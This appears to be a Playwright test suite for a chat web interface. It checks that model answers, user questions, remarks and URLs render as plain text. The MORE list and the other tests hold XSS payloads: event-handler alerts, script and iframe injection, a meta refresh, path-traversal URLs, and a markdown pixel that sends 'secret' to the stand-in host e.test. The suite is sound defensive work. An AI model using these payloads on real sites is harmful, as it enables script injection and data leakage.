"""Hostile words, from the model and from people: nothing of them runs, and nothing is fetched from elsewhere."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from tests.adapters.test_web_dialect import ATTACKS
from tests.servers.qwen import Done, End, Pause, Say, Until, Use, answer

if TYPE_CHECKING:
    from tests.browser.conftest import Opens
    from tests.browser.house import House
    from tests.browser.reader import Reader

# Anything that runs would call one of these, ask the reader something, or leave an element that is not ours.
_TRAPS = """() => {
  window.ran = [];
  for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.ran.push(name);
  window.scripts = document.scripts.length;
}"""
_STRANGERS = """() => {
  const ours = 'a,blockquote,br,code,del,div,em,h3,h4,h5,h6,hr,li,ol,p,pre,span,strong,table,tbody,td,th,thead,tr,ul,button,svg,use';
  const said = document.querySelectorAll('.answer *, .thoughts .prose *, .note *, .status *');
  const found = [...said].filter((e) => !e.matches(ours)).map((e) => e.outerHTML);
  for (const e of said) for (const {name} of e.attributes) if (/^on|^style$|^src/.test(name)) found.push(e.outerHTML);
  if (document.scripts.length !== window.scripts) found.push('there is one more script');
  return [...found, ...window.ran];
}"""
MORE = [
    "<meta http-equiv=refresh content='0;url=https://e.test'>", "<link rel=stylesheet href=https://e.test/x.css>",
    "<form action=https://e.test><input autofocus onfocus=alert(1)></form>", "<video src=https://e.test/v onerror=alert(1)>",
    "<object data=https://e.test></object>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<img srcset='https://e.test/x.png 1x' src=https://e.test/x.png>", "![a](https://e.test/pixel.png?d=secret)",
    "<div style='position:fixed;inset:0;background:url(https://e.test/c)'>", "[a](https://e.test 'x' onclick=alert(1))",
    "<a href='https://e.test' ping='https://e.test/p' download>x</a>", "<template><script>alert(1)</script></template>",
    '{"reset": true}\n\ndata: {"x": 1}\n\nevent: snapshot\ndata: {}', "</article></main><script>alert(1)</script>",
    '<use href="https://e.test/x.svg#a">', "`</code><img src=x onerror=alert(1)>`",
]  # fmt: skip


async def test_what_a_model_writes_stays_words(house: House, reader: Reader) -> None:
    hostile = "\n\n".join([*ATTACKS, *MORE])
    house.qwen.queue(answer(hostile, chunk=7))
    await reader.page.evaluate(_TRAPS)

    await reader.ask("Attack")
    await reader.finished()

    assert not await reader.page.evaluate(_STRANGERS)
    await expect(reader.answer).to_contain_text("<script>alert(1)</script>")
    links = await reader.answer.locator("a").evaluate_all(
        "all => all.map((a) => [a.protocol, a.target, a.rel])"
    )
    assert links
    for protocol, target, rel in links:
        assert protocol in ("http:", "https:", "mailto:", ":")
        assert (target, rel) == ("_blank", "noopener noreferrer nofollow")
    assert not reader.foreign


@pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[1], ATTACKS[2], ATTACKS[14], MORE[0], MORE[14]])
async def test_at_no_moment_of_its_growing_does_an_attack_run(
    house: House, reader: Reader, attack: str
) -> None:
    steps = [step for piece in attack for step in (Say(piece), Pause(0.01))]
    house.qwen.queue((*steps, End(), Use(), Done()))
    await reader.page.evaluate(_TRAPS)

    await reader.ask("Slowly")
    while not await reader.page.locator("[data-state=done]").count():
        assert not await reader.page.evaluate(_STRANGERS)
        await asyncio.sleep(0.02)

    assert not await reader.page.evaluate(_STRANGERS)


async def test_what_people_write_stays_words_wherever_it_is_shown(house: House, reader: Reader) -> None:
    question = "<img src=x onerror=alert(1)><script>alert(1)</script>"
    house.qwen.queue(answer("Well."))
    await reader.page.evaluate(_TRAPS)
    await reader.ask(question)
    await reader.finished()
    await reader.button("Good answer").click()
    await reader.page.get_by_role("textbox", name="What made it so?").fill(question)
    await reader.page.keyboard.press("Enter")
    await expect(reader.page.locator(".remark")).to_have_text(question)
    await reader.go_to("History")
    await expect(reader.page.locator("tbody tr").first).to_contain_text(question)
    await reader.page.get_by_role("searchbox").fill(question)
    await expect(reader.page.locator("tbody tr")).to_have_count(1)

    assert not await reader.page.evaluate(_STRANGERS)
    assert await reader.page.locator("img, iframe, main script").count() == 0


async def test_an_address_that_names_no_conversation_is_harmless(house: House, opens: Opens) -> None:
    async with opens(house.url) as reader:
        for path in (
            "/#/c/<script>alert(1)</script>",
            "/#/c/%",
            "/#/c/..%2f..%2fsettings",
            "/#javascript:alert(1)",
        ):
            await reader.page.goto("about:blank")
            await reader.page.goto(house.url + path)
            await expect(reader.page.locator("#title")).to_be_visible()
            assert await reader.page.locator("main img, main script").count() == 0
        reader.complaints = [one for one in reader.complaints if "404" not in one and "400" not in one]


async def test_a_link_leaves_nothing_behind_it(house: House, reader: Reader) -> None:
    house.qwen.queue(answer(f"[elsewhere]({house.url}/healthz?from=answer)"))
    await reader.ask("A link, please")
    await reader.finished()

    async with reader.context.expect_page() as opened:
        await reader.answer.get_by_role("link", name="elsewhere").click()
    other = await opened.value
    await other.wait_for_load_state()

    assert await other.evaluate("window.opener") is None
    assert await other.evaluate("document.referrer") == ""
    assert reader.page.url.startswith(house.url + "/#/c/")


async def test_the_browser_would_refuse_what_slipped_through(house: House, opens: Opens) -> None:
    go_on = asyncio.Event()
    house.qwen.queue((Say("Hello"), Pause(0.05), Until(go_on), End(), Use(), Done()))
    async with opens(house.url) as reader:
        await reader.open()
        await reader.page.evaluate(_TRAPS)
        await reader.ask("Hi")
        await expect(reader.answer).to_have_text("Hello")

        slipped = "<img src=/x onerror=alert(1)><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"
        await reader.page.evaluate(
            """(html) => { const box = document.createElement('div'); document.body.append(box);
            try { box.innerHTML = html; } catch (e) { window.refused = true; }
            const script = document.createElement('script');
            try { script.textContent = 'alert(2)'; box.append(script); } catch (e) { window.refused = true; } }""",
            slipped,
        )
        go_on.set()
        await reader.finished()

        assert await reader.page.evaluate("window.ran") == []
        assert reader.complaints
        reader.complaints = []
